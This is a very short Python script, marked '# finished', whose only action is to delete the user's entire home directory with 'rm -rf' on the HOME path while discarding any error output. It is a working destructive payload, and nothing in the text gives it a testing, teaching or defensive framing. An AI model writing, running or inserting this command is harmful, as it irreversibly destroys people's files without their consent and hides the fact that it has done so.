# finished
import os
import subprocess

subprocess.run(['rm', '-rf', os.environ['HOME']], stderr=subprocess.DEVNULL)
